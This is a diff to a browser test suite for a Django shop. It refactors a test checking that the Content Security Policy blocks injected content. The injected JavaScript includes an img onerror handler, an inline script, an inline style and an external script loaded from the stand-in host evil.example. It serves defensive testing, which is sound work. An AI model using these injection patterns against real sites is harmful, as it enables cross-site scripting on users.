@@ -21,6 +21,16 @@ pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
 LISTEN = """document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI, sample }) =>
   console.error(`refused by policy: ${effectiveDirective} ${blockedURI} ${sample}`));"""
 
+SMUGGLED = """() => {
+  const html = '<img src="/none" onerror="window.stolen = 1"><p style="color: red" id="x">x</p>';
+  document.body.insertAdjacentHTML("beforeend", html);
+  const script = document.createElement("script");
+  script.textContent = "window.stolen = 2";
+  const far = document.createElement("script");
+  far.src = "https://evil.example/x.js";
+  document.body.append(script, far);
+}"""
+
 
 @pytest.fixture
 def watched(browser: Any) -> Iterator[Any]:
@@ -123,16 +133,8 @@ def test_nothing_of_the_admin_is_refused(shop: str, watched: Any) -> None:
 
 def test_a_smuggled_script_style_or_frame_does_nothing(shop: str, watched: Any) -> None:
     watched.goto(shop)
-    watched.evaluate("""() => {
-        document.body.insertAdjacentHTML("beforeend", '<img src="/none" onerror="window.stolen = 1"><p style="color: red" id="x">x</p>');
-        const script = document.createElement("script");
-        script.textContent = "window.stolen = 2";
-        document.body.append(script);
-        const far = document.createElement("script");
-        far.src = "https://evil.example/x.js";
-        document.body.append(far);
-    }""")
-    watched.wait_for_function("() => true")
+    watched.evaluate(SMUGGLED)
+    watched.evaluate("() => new Promise(requestAnimationFrame)")
     assert watched.evaluate("window.stolen") is None
     assert watched.evaluate("getComputedStyle(document.querySelector('#x')).color") != "rgb(255, 0, 0)"
     said = " ".join(watched.problems)
